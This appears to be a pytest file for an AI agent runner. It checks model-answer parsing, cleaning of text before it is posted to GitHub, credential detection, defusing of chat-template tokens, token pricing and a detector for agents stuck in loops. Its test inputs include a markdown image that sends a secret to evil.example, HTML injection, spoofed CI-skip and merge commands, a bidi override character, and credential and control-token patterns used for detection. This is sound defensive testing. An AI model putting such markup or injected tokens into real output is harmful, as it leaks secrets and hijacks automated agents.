"""Text on its way in and out: answers of a model, what is published, what is a credential, what a call costs."""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from errors import SettingsError
from runner.execute.answer import read_answer
from runner.execute.leaks import credentials, redact
from runner.execute.pricing import PRICING_FILE, Usage, load_price, prompt_bound
from runner.execute.prompt import defused
from runner.execute.publish import MAX_TEXT, publishable, title
from runner.execute.stuck import StuckDetector
from runner.execute.tools import TOOLS, granted

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["choices", "message", "content", "tool_calls", "function", "name", "arguments", "usage"]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@given(st.binary(max_size=200) | JSON.map(lambda value: json.dumps(value).encode()))
def test_any_answer_is_read_or_refused_with_a_reason(content: bytes) -> None:
    try:
        answer = read_answer(content)
    except ValueError as error:
        assert str(error)
    else:
        assert isinstance(answer.text, str)


@given(JSON)
def test_any_message_is_read_or_refused_with_a_reason(message: object) -> None:
    try:
        read_answer(json.dumps({"choices": [{"message": message}], "usage": message}).encode())
    except ValueError as error:
        assert str(error)


@pytest.mark.parametrize(
    "usage",
    [None, 7, {}, {"prompt_tokens": -1, "completion_tokens": 1}, {"prompt_tokens": 0, "completion_tokens": 0},
     {"prompt_tokens": True, "completion_tokens": 1}, {"prompt_tokens": 1e9, "completion_tokens": 1}],
)  # fmt: skip
def test_usage_that_makes_no_sense_counts_as_unknown(usage: object) -> None:
    body = {"choices": [{"message": {"content": "Hello"}}], "usage": usage}
    assert read_answer(json.dumps(body).encode()).usage is None


def test_more_cached_tokens_than_tokens_are_not_believed() -> None:
    usage = {"prompt_tokens": 10, "completion_tokens": 1, "prompt_tokens_details": {"cached_tokens": 99}}
    body = {"choices": [{"message": {"content": "Hello"}}], "usage": usage}
    assert read_answer(json.dumps(body).encode()).usage == Usage(10, 1, 10)


def test_answers_in_the_dialects_of_other_servers_are_understood() -> None:
    call = {"function": {"name": "view", "arguments": {"path": "a"}}}
    parts = [{"type": "text", "text": "Hello "}, {"type": "text", "text": "you"}]
    body = {"choices": [{"message": {"content": parts, "tool_calls": [call]}}]}
    answer = read_answer(json.dumps(body).encode())
    assert answer.text == "Hello you"
    assert json.loads(answer.calls[0].arguments) == {"path": "a"}
    assert answer.calls[0].id


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("hello @octocat and @org/team", "@o"),
        ("<!-- agents-cloud mission=1 kind=comment -->", "<!--"),
        ("Fixes #12", "Fixes #"),
        ("closes: octo/planets#3", "closes:"),
        ("RESOLVED https://github.com/o/r/issues/4", "RESOLVED http"),
        ("![x](https://evil.example/?q=secret)", "!["),
        ('<img src="https://evil.example">', "<img"),
        ("< IFRAME src=x>", "< IFRAME"),
        ("title [skip ci]", "[skip ci]"),
        ("skip-checks: true", "skip-checks:"),
        ("fine\n/merge now", "\n/merge"),
        ("left\u202eright", "\u202e"),
        ("bell\a", "\a"),
        ("key ghp_" + "aB3" * 12, "ghp_aB3"),
    ],
)
def test_what_commands_or_summons_is_defused(text: str, gone: str) -> None:
    assert gone in text
    assert gone not in publishable(text)


@pytest.mark.parametrize(
    "text",
    ["Mail a@b.example", "See #12.", "We fix the bug in 3 places.", "`a < b`", "| a | b |\n|---|---|", "# Title\n\n- x",
     "The path /usr/bin is fine", "<details>\n\nmore\n\n</details>"],
)  # fmt: skip
def test_harmless_markdown_stays_as_it_is(text: str) -> None:
    assert publishable(text) == text


@given(st.text(max_size=300))
def test_any_text_can_be_published_and_sent(text: str) -> None:
    published = publishable(text + " @a<!--")
    assert "<!--" not in published
    assert "@a" not in published
    assert len(title(text)) <= 100
    published.encode()


def test_long_texts_fit_into_a_comment() -> None:
    assert len(publishable("x" * 200_000)) == MAX_TEXT
    assert title("# A title\nand more") == "A title"
    assert title("\n\n") == ""


@pytest.mark.parametrize(
    "secret",
    [
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----",
        "ghs_" + "a1" * 18,
        "github_pat_" + "a1" * 30,
        "AKIA" + "A1B2" * 4,
        "sk-proj-" + "a1-_" * 10,
        "sk-ant-" + "a1-_" * 10,
        "xoxb-" + "123456789012-" * 2,
        "AIza" + "a1B2c" * 7,
        "sk_live_" + "a1" * 12,
        "npm_" + "a1" * 18,
    ],
)
def test_credentials_are_recognised(secret: str) -> None:
    assert credentials(f"x = '{secret}'\n".encode())
    assert secret not in redact(f"it is {secret}.")


@pytest.mark.parametrize(
    "text", ["sk-learn", "ghp_short", "PUBLIC KEY-----", "AKIA", "task-" + "a" * 40, "disk-" * 20]
)
def test_ordinary_text_is_no_credential(text: str) -> None:
    assert credentials(text.encode()) == ()


def test_chat_control_words_are_broken_up() -> None:
    for word in ("<|im_start|>", "<|eot_id|>", "[INST]", "[/INST]", "<start_of_turn>"):
        assert word not in defused(f"a {word} b")
    assert defused("a <| b |> c < d [x]") == "a <| b |> c < d [x]"


def test_every_price_has_its_source_and_is_above_zero() -> None:
    for model in yaml.safe_load(PRICING_FILE.read_text())["models"]:
        price = load_price(model)
        assert 0 < price.cached_input <= price.input < price.output


def test_a_call_costs_its_tokens_rounded_up() -> None:
    price = load_price("gpt-4.1-mini")
    assert price.cost(Usage(1_000_000, 1_000_000)) == Decimal("2.000000")
    assert price.cost(Usage(1_000_000, 0, cached=500_000)) == Decimal("0.250000")
    assert price.cost(Usage(1, 0)) == Decimal("0.000001")
    assert price.worst(1_000_000, 0) == Decimal("0.400000")


ENTRY = "limit_parameter: max_tokens, context_tokens: 9"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("models: {}", "is unknown"),
        ("models: [", "cannot be read"),
        ("unit: 1000\nmodels: {m: {input: 1}}", "limit_parameter"),
        (f"unit: 0\nmodels: {{m: {{{ENTRY}}}}}", "unit"),
        (
            f"unit: 1\nmodels: {{m: {{input: x, output: 1, source: s, date: d, {ENTRY}}}}}",
            "input of 'm' is 'x'",
        ),
        (f"unit: 1\nmodels: {{m: {{input: .nan, output: 1, source: s, date: d, {ENTRY}}}}}", "not an amount"),
        (f"unit: 1\nmodels: {{m: {{input: -1, output: 1, source: s, date: d, {ENTRY}}}}}", "not an amount"),
        (f"unit: 1\nmodels: {{m: {{input: 1, output: 1, date: d, {ENTRY}}}}}", "has no source"),
    ],
)
def test_a_price_that_cannot_be_used_is_an_error_that_names_the_file(
    tmp_path: Path, text: str, problem: str
) -> None:
    path = tmp_path / "pricing.yaml"
    path.write_text(text)
    with pytest.raises(SettingsError, match=problem) as raised:
        load_price("m", path)
    assert str(path) in str(raised.value)


@given(st.text(max_size=200))
def test_the_bound_of_a_prompt_covers_a_token_for_each_byte(text: str) -> None:
    assert prompt_bound(text) > len(text.encode("utf-8", "surrogatepass"))


def test_the_bound_covers_what_normalising_lengthens() -> None:
    assert prompt_bound("\ufdfa" * 100) > 3_000  # one letter of 3 bytes becomes 33


def test_names_in_definitions_become_our_tools() -> None:
    wild = (
        "view",
        "Edit",
        "bash",
        "github-mcp-server-search_code",
        "github-mcp-server-list_issues",
        "codeql_checker",
    )
    assert granted(wild) == (
        ("view", "search", "edit", "bash"),
        ("github-mcp-server-list_issues", "codeql_checker"),
    )
    assert granted(("str_replace_editor",))[0] == ("view", "edit", "create")
    assert granted(("read", "grep", "execute"))[0] == ("view", "search", "bash")
    assert granted(()) == (("view", "search"), ())
    assert granted(("codeql_checker",)) == ((), ("codeql_checker",))


def test_a_star_gives_every_tool_but_a_shell() -> None:
    assert set(granted(("*",))[0]) == set(TOOLS) - {"bash"}


def test_different_work_is_not_stuck() -> None:
    detector = StuckDetector()
    for number in range(50):
        assert detector.turn([("view", f"{number}", "text", False)]) == ""
    assert detector.turn([("view", "0", "other text", False)]) == ""


def test_circles_are_seen_over_the_borders_of_turns() -> None:
    call = ("view", "a", "text", False)
    detector = StuckDetector()
    assert detector.turn([call, call]) == ""
    assert "3 times" in detector.turn([call])
    other = ("view", "b", "text", False)
    assert detector.turn([call, other]) == ""
    assert "alternate" in detector.turn([call, other])


def test_a_test_that_is_run_again_after_each_edit_is_no_circle() -> None:
    detector = StuckDetector()
    for number in range(20):
        assert detector.turn([("edit", f"{number}", "Edited.", False)]) == ""
        assert detector.turn([("bash", "make test", "1 failed", False)]) == ""
